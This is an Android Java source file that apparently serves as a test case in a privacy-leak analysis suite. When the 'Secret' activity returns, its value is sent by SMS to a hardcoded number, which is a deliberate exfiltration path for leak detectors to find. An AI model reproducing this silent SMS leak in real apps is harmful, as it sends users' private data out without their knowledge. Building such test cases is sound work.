package cn.privlens.suite.result_of_right_request;

import android.app.Activity;
import android.content.Intent;
import android.os.Bundle;
import android.telephony.SmsManager;

public class Main extends Activity {
    private static final int ASK_SECRET = 1;
    private static final int ASK_COLOUR = 2;
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        startActivityForResult(new Intent(this, Secret.class), ASK_SECRET);
        startActivityForResult(new Intent(this, Colour.class), ASK_COLOUR);
    }
    @Override
    protected void onActivityResult(int request, int result, Intent data) {
        super.onActivityResult(request, result, data);
        if (request == ASK_SECRET && data != null) {
            SmsManager.getDefault().sendTextMessage("10690000", null, data.getStringExtra("v"), null, null);
        }
    }
}
